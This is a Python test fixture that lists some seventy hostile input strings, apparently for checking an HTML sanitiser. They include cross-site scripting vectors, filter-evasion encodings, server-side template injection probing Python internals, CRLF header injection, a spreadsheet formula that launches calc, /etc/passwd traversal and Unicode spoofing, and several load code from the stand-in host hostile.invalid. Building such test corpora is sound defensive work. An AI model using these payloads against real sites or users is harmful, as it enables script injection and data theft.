"""Hostile words: each would do something in a page that let it. What they do is to set `window.hacked`, or ask a host.

Sources: OWASP's cheat sheets on cross-site scripting and its filter evasion, and on template injection; CVEs of
sanitisers that were led astray by namespaces; what the pages of the demonstration had before.
"""

from __future__ import annotations

from typing import Final

__all__ = ["ASKING", "PAYLOADS", "hacking"]

ASKING: Final = "hostile.invalid"  # whoever asks this host has been had

_RUN: Final = "window.hacked=1"
_URL: Final = f"https://{ASKING}/x"

PAYLOADS: Final[tuple[str, ...]] = (
    # elements that run
    f"<script>{_RUN}</script>",
    f"<script src={_URL}.js></script>",
    f"<script>{_RUN}//",
    f"<ScRiPt>{_RUN}</sCrIpT >",
    f"<script\x0c>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={_RUN}>#x'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_RUN}&gt;'>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=`x` onerror={_RUN}>",
    f"<img src={_URL}.png>",
    f"<img srcset='{_URL}.png 2x'>",
    f"<image href={_URL}.png onerror={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src={_URL} onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data={_URL}></object>",
    f"<embed src={_URL}>",
    f"<link rel=stylesheet href={_URL}.css>",
    f"<link rel=preconnect href=https://{ASKING}>",
    f"<meta http-equiv=refresh content='0;url={_URL}'>",
    f"<base href={_URL}/>",
    f"<form action={_URL}><button autofocus>x</button></form>",
    f"<style>@import '{_URL}.css';</style>",
    f"<style>*{{display:none;background:url({_URL})}}</style>",
    # out of where the text stands
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'" onmouseover={_RUN} autofocus onfocus={_RUN} x="',
    f"' onmouseover={_RUN} autofocus onfocus={_RUN} x='",
    f"` onfocus={_RUN} autofocus `",
    f" onfocus={_RUN} autofocus tabindex=1 ",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</option></select><img src=x onerror={_RUN}>",
    f"</bdi></p></article></main><h1>gone</h1><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script><![CDATA[",
    f'\\"><script>{_RUN}</script>',
    f"%22%3E%3Cscript%3E{_RUN}%3C/script%3E",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\u00bcscript\u00be{_RUN}\u00bc/script\u00be",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    # templates, addresses, headers, tables
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('window.hacked=1')()}}",
    "{{ request.application.__globals__ }}{% endblock %}{% raw %}",
    f"javascript:{_RUN}",
    f"JaVaScRiPt&colon;{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"//{ASKING}/x",
    f"x\r\nSet-Cookie: hacked=1\r\n\r\n<script>{_RUN}</script>",
    "=cmd|'/c calc'!A1\t@SUM(1+1)\t+1\t-1",
    "../../../../etc/passwd\x00.html",
    # letters that mislead
    "\u202egnihtyna \u2066 esrever\u2069",
    "\x1b]8;;https://hostile.invalid/\x07click\x1b]8;;\x07 \x00\x08\x7f",
    "A\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 4,
    "\ud7ff\ue000\ufffe\uffff \U0001f9d1\u200d\U0001f4bb",
)


def hacking(place: int) -> str:
    """Return a payload; every place has one."""
    return PAYLOADS[place % len(PAYLOADS)]
